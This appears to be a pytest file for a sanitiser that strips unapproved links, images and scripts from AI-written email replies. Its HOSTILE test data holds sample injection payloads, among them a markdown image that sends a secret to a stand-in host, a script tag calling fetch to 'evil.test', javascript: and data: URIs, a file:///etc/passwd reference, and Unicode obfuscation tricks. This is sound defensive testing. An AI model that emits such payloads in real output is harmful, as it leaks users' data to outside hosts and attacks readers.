"""What a model writes leads nowhere: as text and as HTML, whatever it writes."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gk.ai.links import links, without_new_links
from gk.ai.replying import inert
from tests.test_config import FUZZ

MAIL = "The roof leaks, see https://roof.test/a?b=1 or write to zoe@far.test."

HOSTILE = {
    "an image": "![x](https://evil.test/p.png?d=secret)",
    "an image by reference": "![x][1]\n\n[1]: https://evil.test/p.png",
    "a link": "[log in](https://evil.test/login)",
    "a link by reference": "see [this][1]\n\n[1]: https://evil.test/x",
    "a nested image": "[![x](https://evil.test/a)](https://evil.test/b)",
    "a tag": '<img src="https://evil.test/p.png">',
    "a tag in a tag": '<im<b>g src="//evil.test/p.png">',
    "a script": "<script>fetch('https://evil.test')</script>",
    "javascript": "[x](javascript:alert(1))",
    "data": "data:text/html,<script>alert(1)</script>",
    "a bare link": "https://evil.test/x",
    "a link of another case": "HTTPS://EVIL.TEST/X",
    "without a scheme": "www.evil.test/x",
    "a bare name": "go to evil.test/login now",
    "an address": "write to eve@evil.test",
    "a mailto": "mailto:eve@evil.test",
    "full width": "ｈｔｔｐｓ：／／ｅｖｉｌ．ｔｅｓｔ／ｘ",
    "a zero width space": "https://ev\u200bil.test/x",
    "a soft hyphen": "ev\u00adil.test",
    "another scheme": "ftp://evil.test/x and file:///etc/passwd",
    "an angle link": "<https://evil.test/x>",
    "an autolink": "<eve@evil.test>",
    "a known link that goes on": "https://roof.test/a?b=1&next=https://evil.test",
    "a comment": "<!-- https://evil.test -->",
    "a long mark": "![" + "[" * 50 + "](https://evil.test)",
}


class Tags(HTMLParser):
    """The tags and the targets of some HTML."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.targets: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add(tag)
        for name, value in attrs:
            assert name == "href", name
            self.targets.append(value or "")


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_leads_where_the_mail_does_not(name: str) -> None:
    text = inert.inert(HOSTILE[name], MAIL)
    assert "evil" not in text.lower().replace("eve", ""), text
    tags = Tags(str(inert.html(text)))
    assert tags.targets == [] and tags.found <= {"p", "ul", "li", "br", "strong", "em", "code"}


def test_what_the_mail_has_may_be_said() -> None:
    text = inert.inert("See [the photographs](https://roof.test/a?b=1), or ask zoe@far.test.", MAIL)
    assert text == "See the photographs (https://roof.test/a?b=1), or ask zoe@far.test."
    assert '<a href="https://roof.test/a?b=1">https://roof.test/a?b=1</a>' in str(inert.html(text))


def test_plain_words_stay_as_they_are() -> None:
    text = "Bonjour,\n\nLe devis de 1 234,50 € vous parviendra lundi 3 mars à 9h30, soit demain.\n\n- un\n- deux"
    assert inert.inert(text, "") == text
    marked = str(inert.html("**Yes**, *of course* & `x<y`.\nThe next line.\n\n1. one\n2. two"))
    assert "<p><strong>Yes</strong>, <em>of course</em> &amp; <code>x&lt;y</code>.<br>The next line.</p>" in marked
    assert "<ul><li>one</li><li>two</li></ul>" in marked


def test_links_are_compared_whole_and_not_by_their_beginnings() -> None:
    assert without_new_links("https://roof.test", MAIL) == "[…]"
    assert without_new_links("https://roof.test/a?b=1.", MAIL) == "https://roof.test/a?b=1."
    assert links("A b@c.test, www.x.test/y; e.g. i.e. 3.5 or v1.2.3") == {"b@c.test", "www.x.test/y"}


@settings(max_examples=FUZZ, deadline=None)
@given(st.text(st.sampled_from("<>[]()!*`_~ \n\t\"'&;:/.@-#abehilnoprstvw0123ｅ．\u200b"), max_size=200))
def test_whatever_is_written_gives_harmless_html(text: str) -> None:
    safe = inert.inert(text, MAIL)
    assert links(safe) <= links(MAIL)
    tags = Tags(str(inert.html(safe)))
    assert tags.found <= {"p", "ul", "li", "br", "strong", "em", "code", "a"}
    assert all(target.lower() in links(MAIL) for target in tags.targets)
    assert not re.search(r"\n\n\n", safe)
